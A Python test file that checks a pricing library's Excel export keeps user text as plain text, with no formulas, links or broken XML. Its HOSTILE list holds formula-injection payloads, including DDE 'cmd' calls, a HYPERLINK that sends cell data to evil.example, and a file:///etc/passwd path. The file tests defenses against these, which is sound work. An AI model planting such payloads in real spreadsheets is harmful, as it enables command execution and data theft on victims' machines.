"""Whatever people type stays text: it never becomes a formula, a link or a broken file."""

import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from pricing.ledger import Ledger, Provenance, total
from pricing.workbook import Cover, OptionSummary, Summary, write_workbook
from pricing.workbook.names import defined_name, folded, quoted, sheet_name
from pricing.workbook.text import LONGEST, fitted, one_line, safe, shortened, width

HOSTILE = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+1",
    "-2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=DDE(\"cmd\";\"/C calc\";\"\")",
    "{=SUM(A1:A2)}",
    "\t=1+1",
    "\r\n=1+1",
    "http://example.org/x?y=1&z=<2>",
    "mailto:someone@example.org",
    "internal:Sheet1!A1",
    "external:c:\\temp\\x.xlsx",
    "file:///etc/passwd",
    "</t></si><f>1</f>",
    "&amp;&#61;1",
    "_x003D_1+1",
    "SORT(A1) MAP(",
    "'",
    "''!A1",
    "Dell's",
    "\x00\x01\x1f\x7f\ufffe\ud800tail",
    "&P of &N&\"Wingdings\"",
    "总拥有成本",
    "🚀" * 40,
    "x" * 40_000,
    "History",
    "TRUE",
    "  spaced  ",
    "a/b\\c?d*e[f]g:h",
)  # fmt: skip


def hostile_workbook(path: Path, texts: tuple[str, ...]) -> Ledger:
    """A ledger that carries every text wherever a person can put one."""
    ledger = Ledger(3, date(2027, 1, 1))
    options = []
    for number, text in enumerate(texts):
        section = ledger.section(f"option{number}", text, note=text)
        provenance = Provenance(text, date(2026, 1, 1), text, text, text)
        entry = section.input(text, 2, "USD", provenance, key="price", note=text, path=text)
        section.block(text)
        cost = section.line(text, entry * ledger.month, "USD", key="cost", note=text)
        cash = section.line(text, total([cost, cost]), "USD", key="cash")
        so_far = section.line(text, cash, "USD", key="so_far", flow=False)
        tco = section.line(text, entry, "USD", key="tco")
        options.append(
            OptionSummary(text, text, "#0072B2", {text: tco}, cash, so_far, {text: cost}, tco, tco)
        )
    cover = Cover(texts[0], texts[0], texts[0], texts[0], "USD",
                  date(2026, 11, 22), texts[0], texts)  # fmt: skip
    summary = Summary(tuple(options))
    remarks = {f"option{number}.price": text for number, text in enumerate(texts)}
    write_workbook(ledger, ledger.evaluate(), path, cover=cover, summary=summary, remarks=remarks)
    return ledger


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    hostile_workbook(path, HOSTILE)
    return path


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The same workbook with plain words of the same number."""
    path = tmp_path_factory.mktemp("harmless") / "harmless.xlsx"
    hostile_workbook(path, tuple(f"option {number:02d}" for number in range(len(HOSTILE))))
    return path


def _parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()}


def test_that_hostile_text_adds_no_formula_and_no_link(hostile: Path, harmless: Path) -> None:
    ours, plain = _parts(hostile), _parts(harmless)
    assert ours.keys() == plain.keys()
    for name in ours:
        if name.startswith("xl/worksheets/"):
            for tag in ("<f>", "<f ", "<hyperlink ", 't="str"', "<extLst"):
                assert ours[name].count(tag) == plain[name].count(tag), (name, tag)
    assert not any("externalLink" in name or "ddeLink" in text for name, text in ours.items())
    relations = [text for name, text in ours.items() if name.endswith(".rels")]
    assert not any('TargetMode="External"' in text for text in relations)


def test_that_hostile_text_is_stored_as_text_and_read_back_whole(hostile: Path) -> None:
    book = load_workbook(hostile)
    formulas, texts = [], set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(str(cell.value))
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    for formula in formulas:
        unquoted = re.sub(r"'(?:[^']|'')*'!", "", formula)
        assert not re.search(r"cmd|HYPERLINK|DDE|evil|SORT|MAP|_xlfn|\|", unquoted), formula
    for text in HOSTILE:
        if safe(text).strip():
            assert safe(text) in texts


def test_that_text_which_looks_like_a_formula_stays_text_when_the_cell_is_edited(
    hostile: Path,
) -> None:
    book = load_workbook(hostile)
    suspects = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and cell.data_type == "s"
        and cell.value.startswith(("=", "+", "-", "@", "\t"))
    ]
    assert len(suspects) > 50
    assert all(cell.quotePrefix for cell in suspects)


def test_that_the_file_is_well_formed_and_without_control_characters(hostile: Path) -> None:
    from xml.etree import ElementTree

    for name, text in _parts(hostile).items():
        if name.endswith((".xml", ".rels")):
            ElementTree.fromstring(text)


@pytest.mark.parametrize("name", ["\x00\x07name", "a\ud800b", "<f>&", "=1+1"])
def test_that_a_formula_s_stored_text_is_as_safe_as_a_cell_s(tmp_path: Path, name: str) -> None:
    path = tmp_path / "alone.xlsx"
    hostile_workbook(path, (name,))
    headline = load_workbook(path, data_only=True)["Summary"]["B4"].value
    assert headline == f"{safe(name)} costs least over the horizon"


def test_that_long_text_is_cut_to_what_a_cell_holds() -> None:
    assert len(safe("x" * 40_000)) == LONGEST
    assert safe("x" * 40_000).endswith("…")
    assert len(safe("🚀" * 40_000).encode("utf-16-le")) // 2 <= LONGEST


@given(st.text(max_size=60))
@example("\ud800")
@example("\r\n\r")
def test_that_safe_text_can_be_stored_and_keeps_what_can_be_seen(text: str) -> None:
    stored = safe(text)
    stored.encode("utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]", stored)
    assert safe(stored) == stored
    kept = [c for c in text if c.isalnum()]
    assert [c for c in stored if c.isalnum()] == kept


@given(st.lists(st.text(max_size=50), max_size=12))
@example(["History", "history", "HISTORY "])
@example(["A" * 31, "a" * 40, "'" * 5, "", "  "])
@example(["🚀" * 31, "🚀" * 32])
@example(["=1+1", "_x003D_1+1"])
def test_that_sheet_names_are_allowed_and_unlike_each_other(titles: list[str]) -> None:
    taken: set[str] = set()
    for title in titles:
        name = sheet_name(title, taken)
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not re.search(r"[\[\]:*?/\\\x00-\x1f]", name)
        assert name.strip("' ") == name
        assert folded(name) not in taken
        assert folded(name) != "history"
        assert not re.search(r"_x[0-9a-f]{4}_", name, re.IGNORECASE)
        taken.add(folded(name))


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("Inputs", "Inputs"),
        ("H100", "'H100'"),
        ("RC", "'RC'"),
        ("True", "'True'"),
        ("Chart data", "'Chart data'"),
        ("Dell's", "'Dell''s'"),
        ("总成本", "'总成本'"),
    ],
)
def test_that_a_sheet_name_is_quoted_unless_it_is_a_plain_word(name: str, written: str) -> None:
    assert quoted(name) == written


@pytest.mark.parametrize(
    ("key", "name"),
    [
        ("finance.discount_rate", "finance.discount_rate"),
        ("option.gpt-4o/x.price", "option.gpt_4o_x.price"),
        ("h100", "_h100"),
        ("r1c1", "_r1c1"),
        ("1st", "_1st"),
        ("客户.价格", "客户.价格"),
        ("a_x003D_b", "a.x003D_b"),
    ],
)
def test_that_a_defined_name_cannot_be_taken_for_a_cell(key: str, name: str) -> None:
    assert defined_name(key) == name


def test_that_widths_count_east_asian_characters_twice_and_lines_apart() -> None:
    assert width("Total") == 5
    assert width("总成本") == 6
    assert width("a\nlonger") == 6
    assert width("") == 0


@given(st.text(max_size=40), st.integers(2, 30))
def test_that_a_fitted_text_is_no_wider_than_its_room(text: str, room: int) -> None:
    line = fitted(text, room)
    assert width(line) <= room
    assert line == one_line(text) or one_line(text).startswith(line[:-1])


def test_that_headings_stand_on_one_line_and_shorten_with_an_ellipsis() -> None:
    assert one_line(" a\n b\t c ") == "a b c"
    assert shortened("abcdef", 4) == "abc…"
    assert shortened("🚀🚀🚀", 4) == "🚀…"
